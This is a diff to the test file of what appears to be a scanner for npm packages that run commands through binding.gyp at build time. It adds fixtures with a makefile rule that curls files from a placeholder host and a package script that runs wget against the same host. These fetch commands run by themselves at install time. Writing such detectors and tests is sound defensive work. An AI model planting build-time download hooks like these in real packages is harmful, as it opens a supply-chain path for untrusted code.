@@ -7,6 +7,24 @@ const manifest = { name: 'specimen', version: '1.0.0' };
 examine(gypRunsCommand, {
   speaks: [
     {
+      when: 'native code is built with what a makefile of the package fetches',
+      files: {
+        'package.json': manifest,
+        'binding.gyp': gyp('make -s -f build.mk probe'),
+        'build.mk': 'HOST := specimen.invalid\nprobe: out/kernel\nout/%:\n\t@curl -fsSL https://$(HOST)/$* -o $@\n',
+        'src/a.cc': '',
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'it runs a script of the package that fetches something',
+      files: {
+        'package.json': { ...manifest, scripts: { probe: 'wget https://specimen.invalid/a' } },
+        'binding.gyp': gyp('npm run probe'),
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a script is run and there is nothing to build',
       files: { 'package.json': manifest, 'binding.gyp': gyp('node index.js') },
       weight: 'strong',
